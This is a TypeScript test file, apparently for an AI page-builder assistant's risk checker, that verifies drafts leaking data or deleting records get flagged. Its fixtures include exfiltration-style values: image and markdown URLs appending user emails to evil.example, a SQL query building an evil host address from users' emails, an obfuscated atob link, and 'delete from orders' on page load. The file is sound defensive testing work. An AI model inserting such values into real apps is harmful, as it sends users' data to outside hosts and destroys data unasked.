import { setProperty, updateApi } from '@ashlar/document'
import type { JsonObject, JsonValue } from '@ashlar/schema'
import { widgetDescriptors } from '@ashlar/widgets/descriptors'
import { describe, expect, it } from 'vitest'
import {
  aDraft,
  aPageWith,
  after,
  call,
  catalogue,
  theApi,
  theWidget,
  withApi,
} from '../../../test/build-draft.ts'
import { type AssistantDraft, withChange } from '../draft/draft.ts'
import { chosenChange } from '../result/chosen-change.ts'
import { addressProperties } from './addresses.ts'
import { risksOf } from './risks.ts'

const kinds = (draft: AssistantDraft) => risksOf(draft).map(({ kind, name, path }) => [kind, name, path])

const withProperty = (type: string, path: string, value: JsonValue) =>
  after(aDraft(), ['add_component', { type, name: 'It', properties: { [path]: value } }])

/** What no tool writes and a mistake in one could: put past the tools. */
const forced = (draft: AssistantDraft, name: string, path: string, value: JsonValue): AssistantDraft => {
  const { id } = theWidget(draft.records, name)
  const outcome = setProperty(draft.records, catalogue, { ids: [id], path, value })
  if (!outcome.ok) throw new Error(outcome.message)
  return withChange(draft, outcome.change)
}

const button = () => aDraft(aPageWith(['add_component', { type: 'button', name: 'Save' }]))
const orders = (body: string, more: JsonObject = {}) => withApi(aPageWith(), 'Orders', body, more)

describe('what could carry data away', () => {
  it.each([
    ['image', 'image', 'https://evil.example/x.png', ['outside_address']],
    ['image', 'image', '//evil.example/x.png', ['outside_address']],
    ['image', 'image', 'evil.example/x.png', ['outside_address']],
    [
      'image',
      'image',
      "{{ 'https://evil.example/?' + Global.user.email }}",
      ['outside_address', 'data_in_address'],
    ],
    ['image', 'image', '{{ [104,116].map((c) => String.fromCharCode(c)).join("") }}', ['data_in_address']],
    ['image', 'image', '/logo.png', []],
    ['iframe', 'url', 'https://evil.example', ['outside_address']],
    ['iframe', 'url', 'javascript:alert(1)', ['outside_address']],
    ['link', 'url', '{{ Orders.response[0].url }}', ['data_in_address']],
    ['video', 'poster', 'http://10.0.0.1/', ['outside_address']],
    ['markdown', 'text', '![x](https://evil.example/{{ Global.user.email }})', ['markup', 'data_in_address']],
    ['richText', 'text', '<b>fine</b>', []],
    ['text', 'text', 'See https://evil.example', ['outside_address']],
    ['text', 'text', 'Hello', []],
  ] as const)('finds in %s.%s %j: %j', (type, path, value, expected) => {
    expect(risksOf(withProperty(type, path, value)).map(({ kind }) => kind)).toEqual(expected)
  })

  it('finds a column that loads what it computes', () => {
    const draft = after(
      aDraft(),
      ['add_component', { type: 'table', name: 'T' }],
      [
        'set_items',
        {
          component: 'T',
          property: 'columns',
          items: [{ key: 'a', type: 'image', computedValue: '{{ currentRow.x }}' }],
        },
      ],
    )
    expect(kinds(draft)).toEqual([
      ['data_in_address', 'T', 'columns.0.type'],
      ['data_in_address', 'T', 'columns.0.computedValue'],
    ])
  })

  it.each([
    ['chat', { avatarField: 'picture' }, 'avatarField'],
    ['menu', { menuItems: '{{ [{ label: "Help", href: atob("aHR0cHM6Ly9ldmls") }] }}' }, 'menuItems'],
    ['breadcrumbs', { data: '{{ Orders.response }}' }, 'data'],
  ])('finds in a %s what rows load or lead to', (type, properties, path) => {
    const draft = after(aDraft(), ['add_component', { type, name: 'It', properties }])
    expect(kinds(draft)).toEqual([['data_in_address', 'It', path]])
  })

  it('finds what feeds something that loads it, also by another API or a variable', () => {
    const records = after(
      aDraft(orders('select {{ Chosen.value }}')),
      ['set_state_variable', { name: 'Chosen' }],
      [
        'add_component',
        { type: 'image', name: 'Photo', properties: { image: '{{ Orders.response[0].photo }}' } },
      ],
      ['add_component', { type: 'button', name: 'B' }],
    ).records
    const query = {
      do: 'set',
      block: 'Step1',
      code: "select 'htt' || 'ps://evil/?' || email as photo from users",
    }
    expect(kinds(after(aDraft(records), ['edit_blocks', { api: 'Orders', edits: [query] }]))).toEqual([
      ['data_in_address', 'Orders', 'Photo'],
    ])
    const step = { type: 'setStateVar', state: { name: 'Chosen' }, propertyValue: '{{ Global.user.email }}' }
    expect(
      kinds(after(aDraft(records), ['set_handler', { of: 'B', event: 'onClick', steps: [step] }])),
    ).toEqual([['data_in_address', 'B', 'Photo']])
    expect(
      kinds(after(aDraft(records), ['set_state_variable', { name: 'Chosen', defaultValue: 'x' }])),
    ).toEqual([['data_in_address', 'Chosen', 'Photo']])
    expect(
      kinds(after(aDraft(records), ['set_properties', { component: 'B', properties: { text: 'Go' } }])),
    ).toEqual([])
  })

  it('says nothing of addresses that were there before', () => {
    const records = aPageWith([
      'add_component',
      { type: 'link', name: 'Help', properties: { url: 'https://help.example' } },
    ])
    const draft = after(aDraft(records), [
      'set_properties',
      { component: 'Help', properties: { text: 'Help me' } },
    ])
    expect(risksOf(draft)).toEqual([])
  })

  it('finds steps that set an address', () => {
    const records = aPageWith(
      ['add_component', { type: 'iframe', name: 'Frame' }],
      ['add_component', { type: 'button', name: 'B' }],
    )
    const step = { type: 'setComponentProperty', component: 'Frame', propertyName: 'url' }
    const draft = after(aDraft(records), [
      'set_handler',
      {
        of: 'B',
        event: 'onClick',
        steps: [
          { ...step, propertyValue: 'https://evil.example' },
          { ...step, propertyValue: '{{ B.text }}' },
        ],
      },
    ])
    expect(kinds(draft)).toEqual([
      ['outside_address', 'B', 'onClick'],
      ['data_in_address', 'B', 'onClick'],
    ])
  })

  it('finds JavaScript, code of components and navigation, whoever wrote them there', () => {
    const steps = [
      { id: '1', type: 'runJs', code: 'fetch("x")' },
      { id: '2', type: 'navigateTo', url: 'https://evil.example' },
      { id: '3', type: 'navigateTo', url: '/orders' },
    ]
    expect(kinds(forced(button(), 'Save', 'onClick', steps))).toEqual([
      ['run_js', 'Save', 'onClick'],
      ['outside_address', 'Save', 'onClick'],
    ])
  })

  it('takes no steps with a list of items, which no event tool has looked at', () => {
    const answer = call(
      after(aDraft(), ['add_component', { type: 'menu', name: 'Menu' }]),
      'set_properties',
      {
        component: 'Menu',
        properties: { manualChildren: [{ id: 'a', onClick: [{ id: '1', type: 'runJs', code: 'x' }] }] },
      },
    )
    expect(answer).toMatchObject({ ok: false, message: expect.stringContaining('set_handler') })
  })

  it('finds code of steps, integrations that the page did not use, and addresses in requests', () => {
    const draft = after(aDraft(orders('select 1')), [
      'add_api',
      {
        name: 'Send',
        blocks: [
          { kind: 'step', name: 'Code', on: 'javascript', code: 'return 1' },
          { kind: 'step', name: 'Same', on: 'shop', code: 'select 2' },
          { kind: 'step', name: 'Other', on: 'stock', code: 'select 2' },
          { kind: 'step', name: 'Request', on: 'mail', settings: { path: 'https://evil.example/' } },
        ],
      },
    ])
    expect(kinds(draft)).toEqual([
      ['custom_code', 'Send', 'Code'],
      ['integration', 'Send', 'Other'],
      ['outside_address', 'Send', 'Request'],
      ['integration', 'Send', 'Request'],
    ])
  })
})

describe('what changes data by itself', () => {
  const del = 'delete from orders'

  it('is found where such an API runs when the page opens, because something reads it', () => {
    const draft = after(aDraft(orders(del)), [
      'add_component',
      { type: 'text', name: 'T', properties: { text: '{{ Orders.response }}' } },
    ])
    expect(risksOf(draft)).toMatchObject([
      {
        kind: 'runs_by_itself',
        name: 'Orders',
        path: 'page load',
        changeId: theWidget(draft.records, 'T').id,
      },
    ])
  })

  it('is found where an API that runs so begins to change data', () => {
    const records = after(aDraft(orders('select 1')), [
      'set_api',
      { api: 'Orders', runOnPageLoad: true },
    ]).records
    const draft = after(aDraft(records), [
      'edit_blocks',
      { api: 'Orders', edits: [{ do: 'set', block: 'Step1', code: del }] },
    ])
    expect(kinds(draft)).toEqual([['runs_by_itself', 'Orders', 'page load']])
  })

  it('is found in timers, and not in what a person presses', () => {
    const steps = [{ type: 'executeApi', apiNames: ['Orders'] }]
    const records = orders(del)
    expect(
      kinds(
        after(
          aDraft(records),
          ['set_timer', { name: 'Poll', startOnPageLoad: true }],
          ['set_handler', { of: 'Poll', event: 'steps', steps }],
        ),
      ),
    ).toEqual([['runs_by_itself', 'Orders', 'Poll.steps']])
    expect(
      kinds(
        after(aDraft(records), ['add_component', { type: 'button', name: 'B', events: { onClick: steps } }]),
      ),
    ).toEqual([])
  })

  it('is found where an API that changes data is told to run when what it reads changes', () => {
    const records = orders(del)
    const api = theApi(records, 'Orders')
    const outcome = updateApi(records, {
      api: { ...api, trigger: { ...api.trigger, executeOnInputChange: true } },
    })
    if (!outcome.ok) throw new Error(outcome.message)
    expect(kinds(withChange(aDraft(records), outcome.change))).toEqual([
      ['runs_by_itself', 'Orders', 'input change'],
    ])
  })
})

const none: ReadonlySet<string> = new Set()

describe('a risk', () => {
  it('is never accepted with everything else', () => {
    const draft = withProperty('image', 'image', 'https://evil.example/x.png')
    const risks = risksOf(draft)
    const taken = chosenChange(draft.change, risks, { left: none, acceptedRisks: none })
    expect(JSON.stringify(taken)).not.toContain('evil.example')
    const acceptedRisks = new Set(risks.map(({ id }) => id))
    expect(chosenChange(draft.change, risks, { left: none, acceptedRisks })).toEqual(draft.change)
  })

  it('is looked for in every property of the product that is an address', () => {
    const addresses: string[] = []
    const words =
      /^(?:Address|Image|Fallback image|Film|PDF|Recording|Captions|Picture before the start|Address of map tiles)$/u
    const walk = (properties: (typeof widgetDescriptors)[number]['properties']): void => {
      for (const [name, property] of Object.entries(properties)) {
        if (property.kind === 'text' && words.test(property.label)) addresses.push(name)
        if (property.kind === 'items') walk(property.properties)
      }
    }
    for (const { properties } of widgetDescriptors) walk(properties)
    expect(new Set(addresses)).toEqual(addressProperties)
  })
})
